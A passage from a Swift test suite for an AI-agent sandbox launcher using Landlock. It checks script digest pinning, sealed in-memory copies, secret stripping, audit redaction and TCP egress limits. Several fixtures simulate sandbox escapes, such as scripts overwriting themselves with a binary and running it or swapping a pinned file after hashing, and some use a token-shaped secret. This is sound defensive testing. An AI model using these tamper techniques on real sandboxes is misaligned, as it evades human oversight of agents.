        for command in [[s.dir + "/rotate.sh"], ["/bin/bash", s.dir + "/rotate.sh"]] {
            let r = try s.exec(["--environment", "production"], command)
            #expect(r.code == 126 && r.out.isEmpty, "\(r.out)")
            #expect(r.err.contains("'rotate.sh' has sha256 ") && r.err.contains("the manifest declares \(digest)"), "\(r.err)")
            let a = try Self.audit(r.err)
            #expect(a["sha256"] as? String != digest && (a["sha256"] as? String)?.count == 64)
        }
    }

    /// Found by helper-126: the launcher runs a pinned script's `#!` interpreter itself, and ran one
    /// the agent had written into a declared write path (Landlock would refuse to execute it there).
    @Test func aPinnedScriptsInterpreterFromAWritePathIsRefused() throws {
        let s = try Scratch(manifest: "name: agent\n", files: ["rw/interp": "#!/bin/sh\necho pwned\n"])
        defer { s.remove() }
        chmod(s.dir + "/rw/interp", 0o755)
        let digest = try s.script("rotate.sh", "#!\(s.dir)/rw/interp\necho cleaned\n")
        try "name: agent\nfilesystem:\n  write: [\(s.dir)/rw]\nscripts:\n  rotate.sh: {environments: [production], sha256: \(digest)}\n"
            .write(toFile: s.dir + "/m.yaml", atomically: false, encoding: .utf8)
        let r = try s.exec(["--environment", "production"], [s.dir + "/rotate.sh"])
        #expect(r.code == 126 && !r.out.contains("pwned"), "\(r.out) \(r.err)")
        #expect(r.err.contains("the interpreter of") && r.err.contains("which the agent may write"), "\(r.err)")
        // Outside the write paths but where anyone could have put it (/tmp): not trusted either.
        try "name: agent\nscripts:\n  rotate.sh: {environments: [production], sha256: \(digest)}\n".write(toFile: s.dir + "/m.yaml", atomically: false, encoding: .utf8)
        let t = try s.exec(["--environment", "production"], [s.dir + "/rotate.sh"])
        #expect(t.code == 126 && !t.out.contains("pwned") && t.err.contains("is not a trusted interpreter"), "\(t.out) \(t.err)")
    }

    /// A script with a declared digest runs from a sealed in-memory copy of the bytes that were hashed:
    /// writing into the file (here even allowed by the manifest) cannot change what runs.
    @Test func aScriptWithADigestRunsFromTheSealedCopyThatWasHashed() throws {
        let text = "#!/bin/sh -e\ncase $- in *e*) echo errexit;; esac\nreadlink \"$0\"\necho tampered >> \"$0\" && echo appended || echo append-refused\n"
        let s = try Scratch(manifest: "name: agent\n")
        defer { s.remove() }
        let digest = try s.script("rotate.sh", text)
        try s.manifest("name: agent\nfilesystem:\n  write: [\(s.dir)]\nscripts:\n  rotate.sh: {environments: [production], sha256: \(digest)}\n")
        for command in [[s.dir + "/rotate.sh"], ["/bin/sh", s.dir + "/rotate.sh"]] {
            let r = try s.exec(["--environment", "production"], command)
            #expect(r.code == 0, "\(r.err)")
            let lines = r.out.split(separator: "\n").map(String.init)
            #expect(lines.contains("/memfd:provenant-script (deleted)") && lines.last == "append-refused", "\(r.out) \(r.err)")
            if command.count == 1 { #expect(lines.first == "errexit", "the #! line's argument is passed: \(r.out)") }
        }
        #expect(try String(contentsOfFile: s.dir + "/rotate.sh", encoding: .utf8) == text)
    }

    /// A pinned `#!` script runs from its sealed copy, yet its own file kept execute: from a write path,
    /// the script overwrote that file with a binary and ran it. An unpinned program there keeps
    /// execute (it is what runs), and that is said.
    @Test func aProgramInAWritePathCannotBeOverwrittenAndRunUnlessSaid() throws {
        let s = try Scratch(manifest: "name: agent\n")
        defer { s.remove() }
        let digest = try s.script("rotate.sh", "#!/bin/sh\ncat /usr/bin/id > \(s.dir)/rotate.sh && \(s.dir)/rotate.sh -u && echo RAN\necho done\n")
        try s.manifest("name: agent\nfilesystem:\n  write: [\(s.dir)]\nscripts:\n  rotate.sh: {environments: [production], sha256: \(digest)}\n")
        let pinned = try s.exec(["--environment", "production", "--audit", "-"], [s.dir + "/rotate.sh"])
        #expect(pinned.code == 0 && !pinned.out.contains("RAN") && pinned.out.contains("done") && pinned.err.contains("Permission denied"), "\(pinned.out) \(pinned.err)")
        #expect(!pinned.err.contains("keeps execute"), "\(pinned.err)")

        _ = try s.script("tool.sh", "#!/bin/sh\necho hello\n")
        let unpinned = try s.exec(["--environment", "test", "--audit", "-"], [s.dir + "/tool.sh"])
        #expect(unpinned.code == 0 && unpinned.out == "hello\n", "\(unpinned.out) \(unpinned.err)")
        #expect(unpinned.err.contains("warning: \(s.dir)/tool.sh lies in a write path and keeps execute"), "\(unpinned.err)")
        let notes = try #require(try Self.audit(unpinned.err)["notes"] as? [String])
        #expect(notes.contains { $0.hasPrefix("\(s.dir)/tool.sh lies in a write path") }, "\(notes)")
    }

    /// `env NAME` with NAME found on PATH ran a pinned `#!` script hashed in place, and the interpreter
    /// read the live file after the hash: a writer flipping it ran its own code under the pin
    /// (found by helper-165). It runs from the sealed copy too.
    @Test func aPinnedScriptEnvFindsOnPathRunsFromTheSealedCopy() throws {
        let s = try Scratch(manifest: "name: agent\n")
        defer { s.remove() }
        // Without `#!` too: execvp hands the file to /bin/sh, which read the live file after the hash
        // (found by helper-208). Both run from the sealed copy.
        for text in ["#!/bin/sh\nreadlink \"$0\"\necho ran\n", "readlink \"$0\"\necho ran\n"] {
            let digest = try s.script("report.sh", text)
            try s.manifest("name: agent\nscripts:\n  report.sh: {environments: [production], sha256: \(digest)}\n")
            let r = try s.exec(["--environment", "production"], ["/usr/bin/env", "report.sh"], env: ["PATH": s.dir + ":/usr/bin:/bin"])
            #expect(r.code == 0 && r.out == "/memfd:provenant-script (deleted)\nran\n", "\(text.prefix(9)): \(r.out) \(r.err)")
        }
    }

    @Test func theEnvironmentComesFromTheDownwardAPIFile() throws {
        let s = try Scratch(manifest: "name: agent\nscripts:\n  cleanup.sh: [test]\n",
                            files: ["cleanup.sh": Self.cleanup, "labels-test": "app=\"agent\"\nenvironment=\"test\"\n", "labels-prod": "environment=\"production\"\n"])
        defer { s.remove() }
        let test = try s.exec(["--environment-file", s.dir + "/labels-test"], [s.dir + "/cleanup.sh"])
        #expect(test.code == 0 && test.out == "cleaned\n", "\(test.err)")
        let prod = try s.exec(["--environment-file", s.dir + "/labels-prod"], [s.dir + "/cleanup.sh"])
        #expect(prod.code == 126 && prod.err.contains("not for production"))
        let missing = try s.exec(["--environment-file", s.dir + "/absent", "--audit", "-"], [s.dir + "/cleanup.sh"])
        #expect(missing.code == 126, "an unreadable labels file means production")
        #expect(((try Self.audit(missing.err))["notes"] as? [String])?.first?.contains("cannot be read") == true)
        // PROVENANT_ENVIRONMENT comes before the file, as the issue orders them; --environment before both.
        #expect(try s.exec(["--environment-file", s.dir + "/labels-prod"], [s.dir + "/cleanup.sh"], env: ["PROVENANT_ENVIRONMENT": "test"]).code == 0)
        #expect(try s.exec(["--environment", "production"], [s.dir + "/cleanup.sh"], env: ["PROVENANT_ENVIRONMENT": "test"]).code == 126)
        #expect(try s.exec(["--environment", "test", "--environment-file", s.dir + "/labels-test"], [s.dir + "/cleanup.sh"]).code == 2)
    }

    static let token = "ghp_R7wQ2bX9kLm4Np8sT1vY6zC3dF5gH0jK2mQe"

    @Test func secretVariablesAreRemovedAndNamedOnesKept() throws {
        let s = try Scratch(manifest: "name: agent\nsecrets:\n  - env: API_TOKEN\n")
        defer { s.remove() }
        let env = ["GITHUB_TOKEN": Self.token, "DB_PASSWORD": "hunter2hunter2", "NOTES": "see \(Self.token)", "API_TOKEN": "named-value-1234", "PLAIN": "hello"]
        let auditFile = s.dir + "/audit.jsonl"
        let r = try s.exec(["--environment", "test", "--audit", auditFile], ["/usr/bin/env"], env: env)
        #expect(r.code == 0, "\(r.err)")
        let names = Set(r.out.split(separator: "\n").map { String($0.split(separator: "=", maxSplits: 1)[0]) })
        #expect(names.isSuperset(of: ["API_TOKEN", "PLAIN", "PATH"]), "\(names.sorted())")
        #expect(names.isDisjoint(with: ["GITHUB_TOKEN", "DB_PASSWORD", "NOTES"]), "\(names.sorted())")
        #expect(r.out.contains("API_TOKEN=named-value-1234") && !r.out.contains(Self.token))
        let log = try String(contentsOfFile: auditFile, encoding: .utf8)
        let a = try #require(try JSONSerialization.jsonObject(with: Data(log.utf8)) as? [String: Any])
        #expect(a["decision"] as? String == "allow")
        #expect(Set(a["removedEnvironment"] as? [String] ?? []).isSuperset(of: ["GITHUB_TOKEN", "DB_PASSWORD", "NOTES"]))
        #expect(!log.contains(Self.token) && !log.contains("hunter2") && !r.err.contains("hunter2"))
    }

    /// A token in a script's file name, an environment label file's path or the manifest's path was
    /// written whole in the audit record's program, script and notes, and in the error, beside a
    /// redacted command (found by helper-165).
    @Test func theAuditRecordAndErrorsRedactEveryField() throws {
        let name = "upload-\(Self.token).sh"
        let s = try Scratch(manifest: "name: agent\n", files: [name: "#!/bin/sh\necho hi\n"])
        defer { s.remove() }
        chmod(s.dir + "/" + name, 0o755)
        let refused = try s.exec(["--environment", "production"], [s.dir + "/" + name])
        #expect(refused.code == 126 && !refused.err.contains(Self.token), "\(refused.err)")
        #expect((try Self.audit(refused.err))["script"] as? String == "REDACTED.sh")
        let allowed = try s.exec(["--environment", "test", "--audit", "-"], ["/bin/sh", s.dir + "/" + name])
        #expect(allowed.code == 0 && allowed.out == "hi\n" && !allowed.err.contains(Self.token), "\(allowed.err)")
        let labels = try s.exec(["--environment-file", s.dir + "/labels-\(Self.token)"], ["/bin/true"])
        #expect(labels.code == 126 && !labels.err.contains(Self.token) && labels.err.contains("cannot be read"), "\(labels.err)")
        let manifest = try runProcess(provenantBinary, ["guard", "exec", "--manifest", s.dir + "/\(Self.token).yaml", "--environment", "test", "--", "/bin/true"])
        #expect(manifest.code == 2 && !manifest.err.contains(Self.token) && manifest.err.contains("cannot read manifest"), "\(manifest.err)")
    }

    @Test func theProxyIsSetForHTTPAndHTTPS() throws {
        let s = try Scratch(manifest: "name: agent\n")
        defer { s.remove() }
        let r = try s.exec(["--environment", "test", "--proxy", "127.0.0.1:3128"], ["/usr/bin/env"], env: ["NO_PROXY": "internal.example", "HTTPS_PROXY": "http://elsewhere:1"])
        #expect(r.code == 0, "\(r.err)")
        let lines = Set(r.out.split(separator: "\n").map(String.init))
        for name in ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"] { #expect(lines.contains("\(name)=http://127.0.0.1:3128"), "\(name)") }
        #expect(!lines.contains { $0.hasPrefix("NO_PROXY=") || $0.contains("elsewhere") })
        #expect(try s.exec(["--proxy", "127.0.0.1"], ["/usr/bin/env"]).code == 2)
    }

    /// A TCP listener on 127.0.0.1 outside the sandbox; connects complete in the backlog.
    static func listener() throws -> (fd: Int32, port: Int) {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var addr = sockaddr_in()
        addr.sin_family = sa_family_t(AF_INET)
        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        let ok = withUnsafeMutablePointer(to: &addr) { p in
            p.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, len) == 0 && listen(fd, 16) == 0 && getsockname(fd, $0, &len) == 0 }
        }
        try #require(fd >= 0 && ok)
        return (fd, Int(UInt16(bigEndian: addr.sin_port)))
    }

    @Test func tcpConnectsReachTheProxyPortOnly() throws {
        let proxy = try Self.listener(), other = try Self.listener()
        defer { close(proxy.fd); close(other.fd) }
        let s = try Scratch(manifest: "name: agent\negress:\n  - cidr: 127.0.0.0/8\n    ports: [\(other.port)]\n")
        defer { s.remove() }
        let code = "import errno, socket, sys\nfor p in sys.argv[1:]:\n  s = socket.socket()\n  try:\n    s.connect(('127.0.0.1', int(p))); print(p, 'connected')\n  except OSError as e:\n    print(p, errno.errorcode[e.errno])"
        let r = try s.exec(["--environment", "test", "--proxy", "127.0.0.1:\(proxy.port)"], [Self.python, "-c", code, "\(proxy.port)", "\(other.port)"])
        #expect(r.code == 0, "\(r.err)")
        #expect(r.out == "\(proxy.port) connected\n\(other.port) EACCES\n", "\(r.out) \(r.err)")
        // Without --proxy the manifest's declared port is the one reachable.
        let declared = try s.exec(["--environment", "test"], [Self.python, "-c", code, "\(proxy.port)", "\(other.port)"])
        #expect(declared.out == "\(proxy.port) EACCES\n\(other.port) connected\n", "\(declared.out) \(declared.err)")
    }

    @Test func withoutLandlockTheLauncherRefusesUnlessAllowedUnconfined() throws {
        let s = try Scratch(manifest: "name: agent\n")
        defer { s.remove() }
        // A debug-build switch pretends the kernel has no Landlock.
        let refused = try s.exec(["--environment", "test"], ["/bin/echo", "ran"], env: ["PROVENANT_GUARD_TEST_NO_LANDLOCK": "1"])
        #expect(refused.code == 126 && refused.out.isEmpty)
        #expect(refused.err.contains("Landlock is not available") && refused.err.contains("--allow-unconfined"), "\(refused.err)")
        let allowed = try s.exec(["--environment", "test", "--allow-unconfined"], ["/bin/echo", "ran"], env: ["PROVENANT_GUARD_TEST_NO_LANDLOCK": "1"])
        #expect(allowed.code == 0 && allowed.out == "ran\n" && allowed.err.contains("UNCONFINED"), "\(allowed.err)")
    }

    /// The script an interpreter reads is granted reading only: with execute on its inode, the command
    /// overwrote the script in its write path with a binary and ran it (found by helper-208).
    @Test func theScriptAnInterpreterReadsCannotBeRunAsAProgram() throws {
        let code = "import os, subprocess, sys\np = sys.argv[1]\ndata = open('/bin/true', 'rb').read()\nwith open(p, 'r+b') as f:\n  f.write(data); f.truncate()\nos.chmod(p, 0o755)\ntry:\n  print('ran', subprocess.run([p]).returncode)\nexcept PermissionError:\n  print('EACCES')\n"
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/ws]\n", files: ["ws/job.py": code])
        defer { s.remove() }
        let r = try s.exec(["--environment", "test"], [Self.python, s.dir + "/ws/job.py", s.dir + "/ws/job.py"])
        #expect(r.code == 0 && r.out == "EACCES\n", "\(r.out) \(r.err)")
        let rules = ExecLauncher.ruleset(abi: 7, manifest: AgentManifest(name: "a"), executables: ["/usr/bin/python3"], scripts: ["/ws/job.py"], proxy: nil)
        #expect(rules.paths.contains(.init("/ws/job.py", Landlock.readFile)))
        #expect(!rules.paths.contains { $0.path == "/ws/job.py" && $0.access & Landlock.execute != 0 })
    }

    /// A kernel whose Landlock cannot limit TCP (ABI below 4): with --proxy, which relies on the limit,
    /// the run is refused unless --allow-unlimited-tcp (not --allow-unconfined, which is about no
    /// Landlock at all); with only the manifest's egress ports, it runs and says so on stderr.
    @Test func tcpLimitsTheKernelCannotApplyAreRefusedOrSaid() throws {
        let s = try Scratch(manifest: "name: agent\negress:\n  - host: api.example.com\n    ports: [443]\n")
        defer { s.remove() }
        let old = ["PROVENANT_GUARD_TEST_LANDLOCK_ABI": "3"]
        for extra in [[], ["--allow-unconfined"]] {
            let refused = try s.exec(["--environment", "test", "--proxy", "127.0.0.1:3128"] + extra, ["/bin/echo", "ran"], env: old)
            #expect(refused.code == 126 && refused.out.isEmpty, "\(extra): \(refused.err)")
            #expect(refused.err.contains("ABI 3 cannot limit TCP") && refused.err.contains("--allow-unlimited-tcp"), "\(refused.err)")
        }
        let allowed = try s.exec(["--environment", "test", "--proxy", "127.0.0.1:3128", "--allow-unlimited-tcp"], ["/bin/echo", "ran"], env: old)
        #expect(allowed.code == 0 && allowed.out == "ran\n" && allowed.err.contains("WITHOUT TCP LIMITS"), "\(allowed.err)")
        let ports = try s.exec(["--environment", "test"], ["/bin/echo", "ran"], env: old)
        #expect(ports.code == 0 && ports.out == "ran\n" && ports.err.contains("egress ports are not enforced by the kernel"), "\(ports.err)")
        // ABI 4 limits TCP: no refusal, no warning.
        let four = try s.exec(["--environment", "test", "--proxy", "127.0.0.1:3128"], ["/bin/echo", "ran"], env: ["PROVENANT_GUARD_TEST_LANDLOCK_ABI": "4"])
        #expect(four.code == 0 && four.out == "ran\n" && !four.err.contains("TCP"), "\(four.err)")
        let any = try Scratch(manifest: "name: agent\negress:\n  - host: api.example.com\n")
        defer { any.remove() }
        let all = try any.exec(["--environment", "test"], ["/bin/echo", "ran"], env: old)
        #expect(all.code == 0 && all.out == "ran\n" && !all.err.contains("TCP"), "every port is allowed: nothing to limit; \(all.err)")
    }

    /// A file `env` runs is executed, not read, as the command itself is: it keeps execute, in a write
    /// path too, as a command run directly from there does (found by helper-209 and helper-210, after
    /// the script rule above took it away from every script).
    @Test func aFileEnvRunsStillRuns() throws {
        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/ws]\n", files: ["tool.sh": "#!/bin/sh\necho tool ran\n", "ws/tool.sh": "#!/bin/sh\necho tool ran\n"])
        defer { s.remove() }
        for path in [s.dir + "/tool.sh", s.dir + "/ws/tool.sh"] {
            let r = try s.exec(["--environment", "test"], ["/usr/bin/env", path])
            #expect(r.code == 0 && r.out == "tool ran\n", "\(path): \(r.code) \(r.out) \(r.err)")
            let direct = try s.exec(["--environment", "test"], [path])
            #expect(direct.code == 0 && direct.out == "tool ran\n", "\(path): \(direct.code) \(direct.out) \(direct.err)")
        }
    }

    @Test func aMissingCommandExits127AndTheCommandsOwnStatusPassesThrough() throws {
        let s = try Scratch(manifest: "name: agent\n")
        defer { s.remove() }
        #expect(try s.exec(["--environment", "test"], ["no-such-command-\(UUID().uuidString)"]).code == 127)
        #expect(try s.exec(["--environment", "test"], ["/bin/sh", "-c", "exit 7"]).code == 7)
        #expect(try s.exec(["--environment", "test"], []).code == 2, "no command")
        // A bad manifest is an input error, reported with its line.
        try "name: agent\nscripts:\n  x.sh: {environments: [test], sha256: nothex}\n".write(toFile: s.dir + "/m.yaml", atomically: false, encoding: .utf8)
        let bad = try s.exec(["--environment", "test"], ["/bin/true"])
        #expect(bad.code == 2 && bad.err.contains("m.yaml:3:"), "\(bad.err)")
    }
}
